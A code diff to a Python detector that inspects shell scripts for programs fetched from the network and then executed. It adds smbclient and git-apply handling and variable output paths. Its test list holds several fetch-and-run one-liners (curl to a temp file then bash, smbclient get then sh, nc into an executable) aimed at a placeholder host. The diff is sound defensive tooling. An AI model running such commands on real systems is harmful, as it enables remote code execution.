@@ -36,6 +36,9 @@ MATCHES = (
     "curl -Lo ~/.local/bin/x http://h/x && chmod +x ~/.local/bin/x",
     "curl h | dd of=a; sh a",
     "base64 -d x > y && chmod +x y && ./y",
+    'F=$(mktemp); curl -s http://h/i -o "$F"; bash "$F"',
+    "smbclient //h/s -c 'get run.sh' && sh run.sh",
+    "curl -s http://h/p | git apply && make",
     "nc h 99 > a && chmod +x a && ./a",
 )
 IGNORES = (
@@ -107,12 +110,12 @@ def inspect(script: Script) -> Iterator[Finding]:
             if program in ("unzip", "tar", "bsdtar", "7z", "unrar", "cpio") and fetched & names:
                 inside = True  # what was unpacked is named by the archive
                 clones |= {".", *_unpacked_into(node)}
-            if program in ("smbget", "tftp", "lwp-download", "curlftpfs", "ftp", "ncftpget", "lftp") or (
+            if program in ("smbget", "smbclient", "tftp", "lwp-download", "curlftpfs", "ftp", "ncftpget", "lftp") or (
                 program in ("az", "gcloud", "gh", "kubectl", "oci", "b2", "mc", "s3cmd", "doctl")
                 and {"download", "cp", "get", "download-batch"} & set(node.shapes)
             ):
-                fetched |= {_name(shape) for shape in node.shapes[1:] if not shape.startswith("-")}
-            if program in ("scp", "rsync", "aws", "gsutil", "rclone", "sftp", "smbclient"):
+                fetched |= {_name(part) for shape in node.shapes[1:] for part in shape.split() if part[0] != "-"}
+            if program in ("scp", "rsync", "aws", "gsutil", "rclone", "sftp"):
                 remote = [shape for shape in node.shapes if re.match(r"[\w.@-]+:(?!/$)", shape)]
                 fetched |= {_name(shape.rpartition(":")[2]) for shape in remote}
             if program in ("nc", "ncat", "netcat", "socat", "telnet", "openssl", "ssh", "iwr", "irm"):
@@ -124,12 +127,15 @@ def inspect(script: Script) -> Iterator[Finding]:
                     "oO" if program in ("curl", "aria2c", "axel", "fetch") else "O",
                     ("output", "output-document", "out"),
                 )
-                target = options.get("o", "O", "output", "output-document", "out")
+                target = options.get("o", "O", "output", "output-document", "out") or _after_output(node)
                 fetched |= {_name(target)} if target else set()
                 if target and _COMMANDS.match(target):
                     yield danger(
                         Reason.NETWORK_EXEC, "puts a program from the network where commands are looked for", target
                     )
+            if fetches_now and program in ("git", "patch") and {"apply", "am", "-p1", "-p0"} & set(node.shapes):
+                inside = True  # what a patch from the network has changed here
+                clones.add(".")
             if fetches_now and program in ("tar", "unzip", "bsdtar", "cpio", "7z") and given is not item.commands[0]:
                 inside = True  # what was unpacked is named by the archive
                 clones |= {".", *_unpacked_into(node)}
@@ -151,6 +157,11 @@ def _without_prefix(command: SimpleCommand) -> SimpleCommand:
     while len(words) > 1 and words[0].value in _PREFIXES and not words[1].shape.startswith("-"):
         words = words[1:]
     return command if words is command.words else replace(command, words=words)
+
+
+def _after_output(command: SimpleCommand) -> str:
+    """The word after `-o`, as written, where its value is not known: `curl -o "$F"`."""
+    return next((after for shape, after in pairwise(command.shapes) if shape in ("-o", "-O") and "$" in after), "")
 
 
 def _unpacked_into(command: SimpleCommand) -> Iterator[str]:
